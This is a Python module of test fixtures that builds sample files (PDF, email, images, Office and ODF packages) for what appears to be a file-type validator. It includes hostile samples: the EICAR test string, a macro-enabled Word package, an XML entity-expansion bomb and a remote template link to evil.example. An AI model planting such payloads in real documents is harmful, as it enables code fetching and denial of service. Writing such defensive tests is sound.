"""Files for the tests: whole ones of each kind, and those that pretend to be what they are not."""

import io
import struct
import zipfile
import zlib
from typing import Any

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
TEXT = "Wren came to school hungry. Grün – “quoted”.\n".encode()
MESSAGE = (
    b"From: head@school.example\r\nTo: front.door@merrow.example\r\nSubject: A worry\r\n"
    b"Date: Wed, 12 Apr 2023 09:00:00 +0100\r\n\r\nPlease ring.\r\n"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OUTLOOK = OLE + b"\0" * 504 + "__properties_version1.0\0".encode("utf-16-le") + b"\0" * 64
OLD_WORD = OLE + b"\0" * 504 + "WordDocument\0".encode("utf-16-le") + b"\0" * 64
LOCKED = OLE + b"\0" * 504 + "EncryptedPackage\0".encode("utf-16-le") + b"\0" * 64
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 1, height: int = 1) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg(comment: bytes = b"") -> bytes:
    segments = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    if comment:
        segments += b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    segments += b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    return b"\xff\xd8" + segments + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\xaa\xff\xd9"


def packed(parts: dict[str, Any], *, stored: tuple[str, ...] = ()) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=kind)
    return made.getvalue()


_TYPES = (
    '<?xml version="1.0"?><Types><Override ContentType="application/vnd.openxmlformats-officedocument.{}"/></Types>'
)


def docx(**parts: Any) -> bytes:
    more = {name.replace("__", "/"): content for name, content in parts.items()}
    return packed(
        {
            "[Content_Types].xml": _TYPES.format("wordprocessingml.document.main+xml"),
            "word/document.xml": "<w:document xmlns:w='w'/>",
            **more,
        }
    )


def docx_with(parts: dict[str, Any]) -> bytes:
    whole = {"[Content_Types].xml": _TYPES.format("wordprocessingml.document.main+xml"), "word/document.xml": "<d/>"}
    return packed({**whole, **parts})


def xlsx() -> bytes:
    return packed({"[Content_Types].xml": _TYPES.format("spreadsheetml.sheet.main+xml"), "xl/workbook.xml": "<w/>"})


def macro_word() -> bytes:
    kind = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    return packed({"[Content_Types].xml": kind, "word/document.xml": "<d/>", "word/vbaProject.bin": b"x"})


def odt(**parts: Any) -> bytes:
    whole = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": "<o/>",
        "META-INF/manifest.xml": "<m/>",
    }
    return packed({**whole, **{name.replace("__", "/"): body for name, body in parts.items()}}, stored=("mimetype",))


def encrypted_zip() -> bytes:
    plain = bytearray(docx())
    plain[6] |= 1  # the encryption bit of the first part, here and in the table of contents
    plain[plain.index(b"PK\x01\x02") + 8] |= 1
    return bytes(plain)


LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>"
FETCHES = (
    '<Relationships><Relationship Type="http://schemas.example/attachedTemplate" Target="https://evil.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)
